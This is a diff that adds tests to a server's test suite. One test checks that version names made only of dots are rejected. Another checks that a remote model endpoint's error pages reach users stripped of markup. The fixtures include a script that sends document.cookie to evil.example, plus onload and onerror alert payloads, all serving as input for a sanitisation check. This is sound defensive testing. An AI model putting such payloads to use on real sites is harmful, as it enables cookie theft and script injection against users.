@@ -89,6 +89,19 @@ describe('registering remote versions', () => {
     expect((await server.call('GET', '/v1/models/c')).status).toBe(404);
     expect((await server.call('GET', '/v1/models/o')).status).toBe(404);
   });
+
+  it('refuses version names made only of dots (".", "..", "...") with 400 naming body/version; nothing registered', async () => {
+    const before = dumpDb(server.dataDir);
+    for (const version of ['.', '..', '...', '.........']) {
+      const r = await server.call('POST', '/v1/models', { version, engine: 'openai', baseUrl: remoteUrl, model: 'q' });
+      expect(r.status, version).toBe(400);
+      expect(r.body.errors?.[0]?.field).toBe('body/version');
+    }
+    expect(dumpDb(server.dataDir)).toBe(before);
+    // dots among other characters are fine
+    expect((await server.call('POST', '/v1/models', { version: 'v1.2..3', engine: 'openai', baseUrl: remoteUrl, model: 'q' })).status).toBe(201);
+    expect((await server.call('POST', '/v1/models', { version: '.hidden', engine: 'openai', baseUrl: remoteUrl, model: 'q' })).status).toBe(201);
+  });
 });
 
 describe('a remote version that misbehaves', () => {
@@ -176,6 +189,43 @@ describe('a remote version that misbehaves', () => {
     behaviour = (_b, res) => send(res, 400, { error: { message: 'context too long' } });
     expect((await step0(id)).body.detail).toContain('context too long');
     expect(hits).toHaveLength(3);
+  });
+
+  it("never echoes the remote's error body raw in the 503 detail: status and a short plain-text excerpt, markup stripped", async () => {
+    const id = await session('oai');
+    const before = dumpDb(server.dataDir);
+    const page = '<!DOCTYPE html><html><head><title>502 Bad Gateway</title><style>h1{color:red}</style>' +
+      '<script>fetch("https://evil.example/?c="+document.cookie)</script></head>' +
+      '<body onload="alert(1)"><h1>Bad   Gateway</h1>\n<p>upstream <b>vllm-7</b> is down</p><!-- node 10.1.2.3 -->' + 'x'.repeat(5000) + '</body></html>';
+    const html = (status: number) => (_b: unknown, res: http.ServerResponse) => {
+      res.writeHead(status, { 'content-type': 'text/html' });
+      res.end(page);
+    };
+    for (const status of [500, 403]) {
+      behaviour = html(status);
+      const r = await step0(id);
+      expect(r.status).toBe(503);
+      const detail: string = r.body.detail;
+      expect(detail).toContain(`HTTP ${status}`);
+      expect(detail).toContain('Bad Gateway');
+      for (const bad of ['<', '>', 'script', 'alert', 'cookie', 'evil.example', 'color:red', '10.1.2.3', 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx']) {
+        expect(detail, bad).not.toContain(bad);
+      }
+      expect(detail.length).toBeLessThan(250);
+    }
+    // an error message in JSON (OpenAI's shape) is shown, as plain text
+    behaviour = (_b, res) => send(res, 400, { error: { message: '<img src=x onerror="alert(1)">prompt is <b>too long</b>\u0000\u001b[31m' } });
+    const j = await step0(id);
+    expect(j.body.detail).toContain('HTTP 400');
+    expect(j.body.detail).toContain('prompt is too long');
+    expect(j.body.detail).not.toMatch(/[<>\u0000-\u001f]|onerror|alert/);
+    // a 200 that is not JSON: the same excerpt rule
+    behaviour = (_b, res) => send(res, 200, '<html><script>alert(2)</script>maintenance</html>');
+    const n = await step0(id);
+    expect(n.body.detail).toContain('not JSON');
+    expect(n.body.detail).toContain('maintenance');
+    expect(n.body.detail).not.toMatch(/[<>]|script|alert/);
+    expect(dumpDb(server.dataDir)).toBe(before);
   });
 
   it('records an answer outside availableActions as an invalid choice and executes its parsed text', async () => {
